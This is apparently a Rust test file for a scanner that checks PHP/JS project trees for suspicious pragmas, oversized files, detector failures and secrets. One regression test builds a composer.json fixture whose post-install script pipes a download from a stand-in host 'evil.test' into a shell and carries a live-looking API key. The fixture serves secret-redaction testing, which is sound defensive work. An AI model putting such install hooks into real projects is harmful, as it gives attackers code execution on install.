//! Scenarios: whole trees scanned, and the ways one file can go wrong
//! without stopping the scan.

use super::*;
use crate::capability::{Capability, CapabilityKind};
use crate::rules::RuleInfo;

/// Reports a capability for every file, and panics on `boom.php`.
struct Fragile;

impl Detector for Fragile {
    fn name(&self) -> &'static str {
        "fragile"
    }
    fn rules(&self) -> &'static [RuleInfo] {
        &[]
    }
    fn check(&self, file: &SourceFile, _ext: &dyn Extension, out: &mut Sink) {
        out.capability(Capability::new(CapabilityKind::Host, "example.com", "any"));
        assert!(file.path != "boom.php", "a detector bug");
    }
}

/// Only the pragma detector, so these scenarios do not move when other
/// families learn new rules.
fn scanner(options: ScanOptions) -> Scanner {
    let pragmas = crate::detectors::pragmas::Pragmas::new();
    Scanner::with_detectors(vec![Box::new(pragmas)], options)
}

fn codes(report: &ScanReport) -> Vec<(String, String)> {
    let pairs = report
        .findings
        .iter()
        .map(|f| (f.location.path.clone(), f.code.clone()));
    pairs.collect()
}

fn write(dir: &Path, path: &str, text: &str) -> std::io::Result<()> {
    let full = dir.join(path);
    std::fs::create_dir_all(full.parent().unwrap_or(dir))?;
    std::fs::write(full, text)
}

#[test]
fn a_folder_is_scanned_file_by_file_into_a_sorted_report() -> Result<(), Box<dyn std::error::Error>>
{
    let dir = tempfile::tempdir()?;
    write(dir.path(), "composer.json", "{\"name\": \"acme/x\"}")?;
    write(dir.path(), "Model/B.php", "<?php\n// nosemgrep\n")?;
    write(dir.path(), "Model/A.php", "<?php\n\n// gitleaks:allow\n")?;
    let report = scanner(ScanOptions::default()).scan_dir(dir.path())?;
    let found: Vec<_> = report
        .findings
        .iter()
        .map(|f| (f.location.path.as_str(), f.location.line))
        .collect();
    assert_eq!(found, [("Model/A.php", 3), ("Model/B.php", 2)]);
    assert_eq!(report.stats.files, 3);
    assert!(report.stats.bytes > 30);
    Ok(())
}

#[test]
fn a_file_above_the_limit_is_reported_and_not_read() -> Result<(), Box<dyn std::error::Error>> {
    let dir = tempfile::tempdir()?;
    write(dir.path(), "big.js", &"x".repeat(64))?;
    write(dir.path(), "small.js", "// nosemgrep\n")?;
    let options = ScanOptions {
        max_file_bytes: 32,
        threads: Some(1),
    };
    let report = scanner(options).scan_dir(dir.path())?;
    let expected = [
        ("big.js", "file-too-large"),
        ("small.js", "scanner-ignore-comment"),
    ];
    let expected: Vec<_> = expected
        .iter()
        .map(|(p, c)| (p.to_string(), c.to_string()))
        .collect();
    assert_eq!(codes(&report), expected);
    assert_eq!(report.findings[0].severity, crate::Severity::Low);
    Ok(())
}

#[test]
fn a_file_that_vanished_before_reading_is_unreadable_and_the_scan_goes_on() -> std::io::Result<()> {
    let dir = tempfile::tempdir()?;
    let ext = DirExtension::new(dir.path(), vec!["gone.php".into()], 1024);
    let scanner = Scanner::new(ScanOptions::default());
    let (sink, bytes) = scanner.scan_path(&ext, "gone.php");
    assert_eq!(bytes, 0);
    assert_eq!(sink.findings[0].code, "file-unreadable");
    assert!(sink.findings[0].message.contains("could not be read"));
    Ok(())
}

#[test]
fn a_detector_panic_marks_the_file_unreadable_and_spares_the_rest() -> Result<(), ScanError> {
    let scanner = Scanner::with_detectors(vec![Box::new(Fragile)], ScanOptions::default());
    let files = vec![
        SourceFile::new("boom.php", b"<?php".to_vec()),
        SourceFile::new("fine.php", b"<?php".to_vec()),
    ];
    let report = scanner.scan_files(files)?;
    assert_eq!(
        codes(&report),
        [("boom.php".to_string(), "file-unreadable".to_string())]
    );
    assert!(report.findings[0]
        .message
        .contains("fragile detector failed"));
    // Capabilities of the good file survive and are deduplicated.
    assert_eq!(report.capabilities.len(), 1);
    Ok(())
}

#[test]
fn a_path_that_is_not_a_folder_is_an_operational_error() -> std::io::Result<()> {
    let dir = tempfile::tempdir()?;
    let file = dir.path().join("x.zip");
    std::fs::write(&file, "PK")?;
    let scanner = Scanner::new(ScanOptions::default());
    assert!(matches!(
        scanner.scan_dir(&file),
        Err(ScanError::NotAFolder { .. })
    ));
    let missing = scanner.scan_dir(&dir.path().join("nope"));
    assert!(matches!(missing, Err(ScanError::NotAFolder { .. })));
    Ok(())
}

#[test]
fn two_scans_of_one_tree_are_identical_but_for_the_clock() -> Result<(), Box<dyn std::error::Error>>
{
    let dir = tempfile::tempdir()?;
    for i in 0..40 {
        write(
            dir.path(),
            &format!("Model/F{i}.php"),
            "<?php\n// nosemgrep\n// NOSONAR\n",
        )?;
    }
    let scanner = scanner(ScanOptions {
        threads: Some(2),
        ..ScanOptions::default()
    });
    let mut a = scanner.scan_dir(dir.path())?;
    let mut b = scanner.scan_dir(dir.path())?;
    a.stats.elapsed_ms = 0;
    b.stats.elapsed_ms = 0;
    assert_eq!(a, b);
    assert_eq!(a.findings.len(), 80);
    Ok(())
}

/// Regression: the composer-scripts finding quoted a script's whole
/// command, and with it a live key the secrets finding beside it showed
/// redacted.
#[test]
fn a_key_inside_a_composer_script_is_redacted_in_every_finding(
) -> Result<(), Box<dyn std::error::Error>> {
    let dir = tempfile::tempdir()?;
    let key = ["sk_live_", "uWoGsbeKXgzg2sye9b2Rann7"].concat();
    let manifest = format!(
        "{{\"name\": \"acme/x\", \"scripts\": {{\"post-install-cmd\": \
         [\"curl -H 'Authorization: Bearer {key}' https://evil.test/x | sh\"]}}}}"
    );
    write(dir.path(), "composer.json", &manifest)?;

    let report = Scanner::new(ScanOptions::default()).scan_dir(dir.path())?;

    let scripts = report
        .findings
        .iter()
        .find(|f| f.code == "composer-scripts");
    let scripts = scripts.ok_or("no composer-scripts finding")?;
    assert!(
        scripts.message.contains("sk_l…(32 chars)"),
        "{}",
        scripts.message
    );
    assert!(report
        .findings
        .iter()
        .any(|f| f.code.starts_with("secret-")));
    for finding in &report.findings {
        assert!(!finding.message.contains(&key), "{finding:?}");
        assert!(!finding.snippet.contains(&key), "{finding:?}");
    }
    Ok(())
}
